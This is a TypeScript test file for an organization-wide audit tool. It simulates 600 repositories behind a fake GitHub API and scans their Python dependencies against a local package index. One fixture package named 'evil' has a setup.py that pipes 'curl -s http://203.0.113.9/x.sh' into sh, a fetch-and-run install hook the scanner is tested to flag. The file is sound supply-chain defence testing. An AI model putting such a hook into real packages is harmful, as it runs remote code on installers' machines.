// The organization audit end to end: a simulated organization of 600 repositories served by a fake
// GitHub API on 127.0.0.1 is planned into matrix chunks, a sample of chunks is checked out from local
// bare git repositories and scanned against the local package index, and the reports are merged
// into one organization report and a tracking issue.

import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { gunzipSync } from 'node:zlib';

import { startOrgApi, type OrgApi, type OrgRepoSpec } from './helpers/github-org-api.js';
import { startIndexServer, type IndexServer } from './helpers/index-server.js';
import { makeSdist, makeWheel } from './helpers/archives.js';
import { runCli } from './helpers/project.js';
import { chunkRepositories, filterReason, globToRegExp, MAX_MATRIX_JOBS, type OrgPlan } from '../src/org/plan.js';
import { GitHubRest, nextLink, rateLimitWait, RestError } from '../src/org/rest.js';
import type { OrgReport } from '../src/org/report.js';

const ORG = 'acme';
const TOKEN = 'org-token-123';

function gitAvailable(): boolean {
  try {
    execFileSync('git', ['--version'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

/** What each repository of the simulated organization holds. */
const CONTENT: Record<string, Record<string, string>> = {
  'svc-042': { 'requirements.txt': 'goodwheel==1.0\nevil==1.0\n' },
  'svc-142': { 'services/api/requirements.txt': '# the API service\nflask-thing==1.0 ; python_version < "3"\nevil==1.0\n', 'pyproject.toml': '[project]\nname = "svc"\nversion = "1"\ndependencies = ["goodwheel==1.0"]\n' },
  'svc-044': { 'requirements.txt': 'ghost==2.0\n' },
  'svc-045': { 'requirements.txt': 'buildme==1.0\ngoodwheel==1.0\n' },
};
const PLANTED = ['svc-042', 'svc-142', 'svc-044', 'svc-045', 'svc-046'];
/** Planned, but its git repository does not exist: the clone fails. */
const NO_GIT = 'svc-046';

function content(name: string): Record<string, string> {
  return CONTENT[name] ?? { 'requirements.txt': 'goodwheel==1.0\n', 'README.md': `# ${name}\n` };
}

function orgSpec(): OrgRepoSpec[] {
  const repos: OrgRepoSpec[] = [];
  for (let i = 0; i < 600; i++) {
    const name = `svc-${String(i).padStart(3, '0')}`;
    const spec: OrgRepoSpec = { name, topics: i % 2 ? ['python', 'backend'] : ['backend'], files: Object.keys(content(name)) };
    if (i % 50 === 0) spec.archived = true;
    if (i % 37 === 1) spec.fork = true;
    if (i % 10 === 3) spec.files = ['README.md', 'package.json', 'docs/notes.txt'];
    if (i === 7) Object.assign(spec, { private: true, treeStatus: 403 });
    if (i === 11) delete spec.files;
    if (i === 15) spec.defaultBranch = 'trunk';
    repos.push(spec);
  }
  return repos;
}

function makeBareRepo(root: string, name: string, files: Record<string, string>, branch = 'main'): void {
  const work = mkdtempSync(join(tmpdir(), 'sdist-guard-org-src-'));
  const env = { ...process.env, GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null', GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@example.com', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@example.com' };
  try {
    for (const [p, text] of Object.entries(files)) {
      mkdirSync(dirname(join(work, p)), { recursive: true });
      writeFileSync(join(work, p), text);
    }
    const bare = join(root, ORG, `${name}.git`);
    mkdirSync(dirname(bare), { recursive: true });
    const git = (cwd: string, ...args: string[]): void => void execFileSync('git', args, { cwd, env, stdio: 'ignore', timeout: 30_000 });
    git(root, 'init', '-q', '--bare', bare);
    git(work, 'init', '-q', '-b', branch);
    git(work, 'add', '-A');
    git(work, 'commit', '-q', '-m', 'init');
    git(work, 'push', '-q', bare, `${branch}:${branch}`);
  } finally {
    rmSync(work, { recursive: true, force: true });
  }
}

describe('planning pieces', () => {
  it('matches repository names with globs, case-insensitively, and rejects the rest', () => {
    expect(globToRegExp('svc-*').test('SVC-001')).toBe(true);
    expect(globToRegExp('svc-0?1').test('svc-011')).toBe(true);
    expect(globToRegExp('svc-[0-1]*').test('svc-200')).toBe(false);
    expect(globToRegExp('svc-[!0]*').test('svc-100')).toBe(true);
    expect(globToRegExp('a.b').test('axb')).toBe(false);
    expect(globToRegExp('(x)').test('(x)')).toBe(true);
  });

  it('filters archived repositories, forks, names and topics with a reason each', () => {
    const base = { filters: { topics: [], include: [], exclude: [], includeArchived: false, includeForks: false, pythonOnly: true } };
    const repo = { name: 'api', full_name: 'acme/api', topics: ['python'] };
    expect(filterReason(repo, base.filters)).toBeUndefined();
    expect(filterReason({ ...repo, archived: true }, base.filters)).toBe('archived');
    expect(filterReason({ ...repo, archived: true }, { ...base.filters, includeArchived: true })).toBeUndefined();
    expect(filterReason({ ...repo, fork: true }, base.filters)).toBe('a fork');
    expect(filterReason(repo, { ...base.filters, include: ['web-*'] })).toMatch(/not among/);
    expect(filterReason(repo, { ...base.filters, include: ['acme/a*'] })).toBeUndefined();
    expect(filterReason(repo, { ...base.filters, exclude: ['a*'] })).toBe('name excluded');
    expect(filterReason(repo, { ...base.filters, topics: ['Python'] })).toBeUndefined();
    expect(filterReason(repo, { ...base.filters, topics: ['ml'] })).toMatch(/no topic/);
  });

  it('deals repositories into balanced chunks, never more than a matrix allows', () => {
    const repos = Array.from({ length: 2000 }, (_, i) => ({ fullName: `o/r${i}`, weight: 1 + (i % 5) }));
    const chunks = chunkRepositories(repos, 1000);
    expect(chunks.length).toBe(MAX_MATRIX_JOBS);
    expect(chunks.flat().sort()).toEqual(repos.map((r) => r.fullName).sort());
    const weights = chunks.map((c) => c.reduce((s, n) => s + 1 + (Number(n.slice(3)) % 5), 0));
    expect(Math.max(...weights) - Math.min(...weights)).toBeLessThanOrEqual(5);
    expect(chunkRepositories(repos.slice(0, 3), 64)).toHaveLength(3);
    expect(chunkRepositories([], 64)).toEqual([]);
  });

  it('reads Link headers and the waits GitHub asks for', () => {
    expect(nextLink('<https://api.github.com/orgs/a/repos?page=2>; rel="next", <https://api.github.com/orgs/a/repos?page=5>; rel="last"')).toBe('https://api.github.com/orgs/a/repos?page=2');
    expect(nextLink('<https://api.github.com/orgs/a/repos?page=5>; rel="last"')).toBeUndefined();
    expect(rateLimitWait(403, { 'retry-after': '7' }, '', 0)).toBe(7000);
    expect(rateLimitWait(403, { 'x-ratelimit-remaining': '0', 'x-ratelimit-reset': '110' }, '', 0, 100_000)).toBe(11_000);
    expect(rateLimitWait(403, {}, '{"message":"You have exceeded a secondary rate limit"}', 1)).toBe(120_000);
    expect(rateLimitWait(403, {}, '{"message":"Resource not accessible by integration"}', 0)).toBeUndefined();
    expect(rateLimitWait(404, { 'retry-after': '1' }, '', 0)).toBeUndefined();
  });
});

describe('the REST client against a server that limits it', () => {
  let api: OrgApi;
  afterEach(async () => api?.close());

  it('waits out a secondary limit, follows every page and keeps the token on its own host', async () => {
    api = await startOrgApi({ org: ORG, repos: orgSpec().slice(0, 250), token: TOKEN, rateLimitPage: 2 });
    const waits: number[] = [];
    const rest = new GitHubRest({ apiUrl: api.url, token: TOKEN, sleep: async (ms) => void waits.push(ms) });
    const names: string[] = [];
    for await (const page of rest.paginate<{ name: string }>(`/orgs/${ORG}/repos?per_page=100`)) names.push(...page.map((r) => r.name));
    expect(names).toHaveLength(250);
    expect(waits).toEqual([0]);
    expect(api.requests.every((r) => r.auth === `Bearer ${TOKEN}`)).toBe(true);
    await expect(rest.request('GET', 'http://127.0.0.2:1/orgs')).rejects.toThrow(/another host/);
  });

  it('a listing that stops part-way is planned as far as it got, with a row that says so', async () => {
    api = await startOrgApi({ org: ORG, repos: orgSpec().slice(0, 350), token: TOKEN, failPage: 3 });
    const dir = mkdtempSync(join(tmpdir(), 'sdist-guard-org-test-'));
    try {
      const run = await runCli(['org-plan', '--org', ORG, '--output', 'p.json'], { cwd: dir, env: { GITHUB_TOKEN: TOKEN, GITHUB_API_URL: api.url } });
      expect(run.code).toBe(0);
      const plan = JSON.parse(readFileSync(join(dir, 'p.json'), 'utf8')) as OrgPlan;
      expect(plan.failures).toContainEqual({ fullName: ORG, reason: expect.stringMatching(/listing stopped after 200 repositories: .*HTTP 422/) });
      expect(plan.repositories.length + plan.skipped.length + plan.failures.length - 1).toBe(200);
      const refused = await runCli(['org-plan', '--org', ORG, '--output', 'p.json'], { cwd: dir, env: { GITHUB_TOKEN: 'wrong', GITHUB_API_URL: api.url } });
      expect(refused.code).toBe(2);
      expect(refused.stderr).toMatch(/cannot list the repositories of acme: .*HTTP 401: Bad credentials/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('a refused token is an error that names the status and the reason', async () => {
    api = await startOrgApi({ org: ORG, repos: [], token: TOKEN });
    const rest = new GitHubRest({ apiUrl: api.url, token: 'wrong', retries: 0 });
    const err = await rest.request('GET', `/orgs/${ORG}/repos`).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(RestError);
    expect((err as RestError).status).toBe(401);
    expect((err as Error).message).toMatch(/HTTP 401: Bad credentials/);
  });
});

const maybe = gitAvailable() ? describe : describe.skip;
if (!gitAvailable()) console.warn('org-audit: checkout tests skipped, git is not installed');

maybe('an organization of 600 repositories', () => {
  let api: OrgApi;
  let index: IndexServer;
  let dir: string;
  let plan: OrgPlan;
  const env = (): Record<string, string> => ({ GITHUB_TOKEN: TOKEN, GITHUB_API_URL: api.url, HOME: dir });

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'sdist-guard-org-test-'));
    api = await startOrgApi({ org: ORG, repos: orgSpec(), token: TOKEN, central: 'acme/security', rateLimitPage: 3, sarifForbidden: [`${ORG}/svc-044`] });
    index = await startIndexServer({
      projects: {
        goodwheel: [makeWheel('goodwheel', '1.0')],
        buildme: [makeSdist('buildme', '1.0')],
        evil: [makeSdist('evil', '1.0', { 'setup.py': 'import os\nfrom setuptools import setup\nos.system("curl -s http://203.0.113.9/x.sh | sh")\nsetup(name="evil", version="1.0")\n' })],
      },
    });
  });
  afterAll(async () => {
    await api?.close();
    await index?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('plans every Python repository into at most the chunks asked for, and says why the others are out', async () => {
    const run = await runCli(['org-plan', '--org', ORG, '--chunks', '64', '--output', 'plan.json', '--matrix-output', 'matrix.json'], { cwd: dir, env: env() });
    expect(run.stderr).toMatch(/planned \d+ repositories in 64 chunks/);
    expect(run.code).toBe(0);
    plan = JSON.parse(readFileSync(join(dir, 'plan.json'), 'utf8')) as OrgPlan;
    const reasons = new Map(plan.skipped.map((s) => [s.fullName, s.reason]));
    expect(reasons.get(`${ORG}/svc-000`)).toBe('archived');
    expect(reasons.get(`${ORG}/svc-038`)).toBe('a fork');
    expect(reasons.get(`${ORG}/svc-003`)).toBe('no Python manifest');
    expect(reasons.get(`${ORG}/svc-011`)).toBe('empty repository');
    expect(plan.failures).toEqual([{ fullName: `${ORG}/svc-007`, reason: expect.stringMatching(/HTTP 403: Resource not accessible/) }]);
    // every repository is in exactly one place: planned, left out, or failed
    const planned = plan.repositories.map((r) => r.fullName);
    expect(planned.length + plan.skipped.length + plan.failures.length).toBe(600);
    expect(new Set(plan.chunks.flatMap((c) => c.repositories))).toEqual(new Set(planned));
    expect(plan.chunks.length).toBe(64);
    expect(Math.max(...plan.chunks.map((c) => c.repositories.length))).toBeLessThanOrEqual(Math.ceil(planned.length / 64) + 1);
    const matrix = JSON.parse(readFileSync(join(dir, 'matrix.json'), 'utf8')) as { chunk: number[] };
    expect(matrix.chunk).toEqual(plan.chunks.map((c) => c.id));
    const trunk = plan.repositories.find((r) => r.fullName === `${ORG}/svc-015`)!;
    expect(trunk.defaultBranch).toBe('trunk');
    const svc142 = plan.repositories.find((r) => r.fullName === `${ORG}/svc-142`)!;
    expect(svc142.manifests).toEqual(['pyproject.toml', 'services/api/requirements.txt']);
    expect(svc142.sparse).toEqual(['pyproject.toml', 'services/api/requirements.txt']);
  });

  it('applies topic and name filters', async () => {
    const run = await runCli(['org-plan', '--org', ORG, '--topic', 'python', '--repo', 'svc-1*', '--exclude-repo', 'svc-19?', '--output', 'small.json'], { cwd: dir, env: env() });
    expect(run.code).toBe(0);
    const small = JSON.parse(readFileSync(join(dir, 'small.json'), 'utf8')) as OrgPlan;
    for (const r of small.repositories) {
      const n = Number(r.fullName.slice(-3));
      expect(n % 2).toBe(1);
      expect(n >= 100 && n < 190).toBe(true);
    }
    expect(small.repositories.length).toBeGreaterThan(20);
  });

  it('refuses a usage error with exit 2 and the input named', async () => {
    expect((await runCli(['org-plan', '--org', 'bad name'], { cwd: dir, env: env() })).stderr).toMatch(/--org: expected/);
    const r = await runCli(['org-scan', '--plan', 'plan.json', '--chunk', '999'], { cwd: dir, env: env() });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/--chunk/);
    writeFileSync(join(dir, 'not-a-plan.json'), '{"x":1}');
    expect((await runCli(['org-scan', '--plan', 'not-a-plan.json', '--chunk', '1'], { cwd: dir, env: env() })).stderr).toMatch(/not an sdist-guard organization plan/);
  });

  it('scans sampled chunks, merges them and keeps one tracking issue up to date', async () => {
    const gitRoot = join(dir, 'git');
    const sampled = plan.chunks.filter((c) => c.repositories.some((n) => PLANTED.includes(n.split('/')[1])));
    expect(sampled.length).toBeGreaterThan(0);
    for (const c of sampled) {
      for (const full of c.repositories) {
        const name = full.split('/')[1];
        if (name === NO_GIT) continue;
        const spec = plan.repositories.find((r) => r.fullName === full)!;
        makeBareRepo(gitRoot, name, content(name), spec.defaultBranch);
      }
    }
    const reports = join(dir, 'reports');
    for (const c of sampled) {
      const run = await runCli(
        ['org-scan', '--plan', 'plan.json', '--chunk', String(c.id), '--out', 'reports', '--git-url', `file://${gitRoot}`, '--index-url', index.indexUrl, '--no-transitive', '--cache-dir', join(dir, 'cache'), '--sarif'],
        { cwd: dir, env: env() },
      );
      expect(run.code).toBe(0);
      expect(run.stderr).toMatch(new RegExp(`chunk ${c.id}: \\d+ of ${c.repositories.length} repositories scanned`));
    }
    const scannedCount = sampled.reduce((n, c) => n + c.repositories.length, 0);
    expect(readdirSync(reports).filter((f) => f.startsWith('report-'))).toHaveLength(scannedCount);
    expect(readdirSync(reports).filter((f) => f.startsWith('sarif-'))).toHaveLength(scannedCount - 1);

    const run = await runCli(['org-report', 'reports', '--plan', 'plan.json', '--markdown', 'summary.md', '--json', 'org.json', '--issue', 'acme/security'], { cwd: dir, env: env() });
    expect(run.code).toBe(1);
    const report = JSON.parse(readFileSync(join(dir, 'org.json'), 'utf8')) as OrgReport;
    const evil = report.problems.find((d) => d.name === 'evil')!;
    expect(evil.status).toBe('suspicious');
    expect(evil.uses.map((u) => `${u.repository} ${u.path}:${u.line}`).sort()).toEqual([`${ORG}/svc-042 requirements.txt:2`, `${ORG}/svc-142 services/api/requirements.txt:3`]);
    expect(report.problems.find((d) => d.name === 'ghost')).toMatchObject({ status: 'unresolved', uses: [{ repository: `${ORG}/svc-044`, path: 'requirements.txt', line: 1 }] });
    expect(report.sdists.map((d) => d.name)).toEqual(['buildme']);
    const failures = new Map(report.failures.map((f) => [f.fullName, f.reason]));
    expect(failures.get(`${ORG}/svc-046`)).toMatch(/could not check out: git fetch failed/);
    expect(failures.get(`${ORG}/svc-007`)).toMatch(/HTTP 403/);
    // a planned repository whose chunk never reported is a failure row, not a missing line
    const unscanned = plan.repositories.find((r) => !sampled.some((c) => c.id === r.chunk))!;
    expect(failures.get(unscanned.fullName)).toMatch(/no report: the job for chunk/);
    expect(report.repositories.scanned).toBe(sampled.reduce((n, c) => n + c.repositories.length, 0) - 1);

    const md = readFileSync(join(dir, 'summary.md'), 'utf8');
    expect(md).toContain('### What fails, and where it is used');
    // names and paths are escaped for Markdown (escape.ts): code as HTML code in a table, `:` as an entity
    expect(md).toMatch(/<code>evil 1\.0<\/code>.*acme\/svc-042 requirements\.txt&#58;2\]\(https:\/\/github\.com\/acme\/svc-042\/blob\/[0-9a-f]{40}\/requirements\.txt#L2\)/);
    expect(md.indexOf('evil')).toBeLessThan(md.indexOf('ghost'));
    expect(md).toContain('Built from source (1 packages)');

    expect(api.issues).toHaveLength(1);
    expect(api.issues[0]).toMatchObject({ state: 'open', title: `sdist-guard organization audit: ${ORG}` });
    expect(api.sarifs).toHaveLength(0);
    expect(api.issues[0].body).toContain('<!-- sdist-guard: organization audit -->');

    // the next run updates the same issue in place, and uploads each repository's SARIF where allowed
    const again = await runCli(['org-report', 'reports', '--plan', 'plan.json', '--markdown', 'summary.md', '--issue', 'acme/security', '--upload-sarif'], { cwd: dir, env: env() });
    expect(api.issues).toHaveLength(1);
    expect(api.sarifs).toHaveLength(scannedCount - 2);
    const evilSarif = api.sarifs.find((u) => u.repository === `${ORG}/svc-042`)!;
    expect(evilSarif.ref).toBe('refs/heads/main');
    expect(evilSarif.commit_sha).toBe(evil.uses.find((u) => u.repository === `${ORG}/svc-042`)!.commit);
    const sarif = JSON.parse(gunzipSync(Buffer.from(evilSarif.sarif, 'base64')).toString('utf8')) as { version: string; runs: Array<{ results: Array<{ locations: Array<{ physicalLocation: { artifactLocation: { uri: string } } }> }> }> };
    expect(sarif.version).toBe('2.1.0');
    expect(sarif.runs[0].results.some((r) => r.locations[0].physicalLocation.artifactLocation.uri === 'requirements.txt')).toBe(true);
    expect(again.stderr).toMatch(/warning: SARIF of acme\/svc-044 not uploaded: .*HTTP 403: Advanced Security/);

    // all clear: only clean reports, no plan: the issue is closed
    const clean = join(dir, 'clean');
    mkdirSync(clean);
    for (const f of readdirSync(reports)) {
      const r = JSON.parse(readFileSync(join(reports, f), 'utf8')) as { ok: boolean; report?: { dependencies: Array<{ status: string }> } };
      if (r.ok && r.report!.dependencies.every((d) => d.status === 'wheel' || d.status === 'skipped')) writeFileSync(join(clean, f), JSON.stringify(r));
    }
    const cleanRun = await runCli(['org-report', 'clean', '--issue', 'acme/security'], { cwd: dir, env: env() });
    expect(cleanRun.code).toBe(0);
    expect(cleanRun.stderr).toMatch(/closed the tracking issue #1/);
    expect(api.issues[0].state).toBe('closed');
  }, 300_000);

  it("assembles the chunks' cache packs into one cache for the next run", async () => {
    const packs = (d: string): string[] => readdirSync(d, { recursive: true, encoding: 'utf8' }).filter((f) => f.endsWith('.pack'));
    const shared = join(dir, 'cache');
    const made = packs(shared);
    expect(made.length).toBeGreaterThan(0);
    // as the report job finds them: every chunk's new packs copied side by side
    const assembled = join(dir, 'assembled');
    for (let i = 0; i < 12; i++) {
      const from = join(shared, made[i % made.length]);
      const to = join(assembled, dirname(made[0]), `${String(i).padStart(15, '0')}-1-chunk${i}.pack`);
      mkdirSync(dirname(to), { recursive: true });
      writeFileSync(to, readFileSync(from));
    }
    const run = await runCli(['org-report', 'reports', '--json', 'again.json', '--cache-dir', 'assembled'], { cwd: dir, env: env() });
    expect(run.stderr).not.toMatch(/warning/);
    const left = packs(assembled);
    expect(left.length).toBeGreaterThan(0);
    expect(left.length).toBeLessThan(12);
  });

  it('reports an unreadable report file as a row and goes on', async () => {
    const bad = join(dir, 'bad');
    mkdirSync(bad);
    writeFileSync(join(bad, 'report-x.json'), '{ not json');
    const run = await runCli(['org-report', 'bad', '--json', 'bad.json', '--fail-on', 'suspicious'], { cwd: dir, env: env() });
    const report = JSON.parse(readFileSync(join(dir, 'bad.json'), 'utf8')) as OrgReport;
    expect(report.failures[0].reason).toMatch(/not JSON/);
    expect(run.code).toBe(0);
  });
});
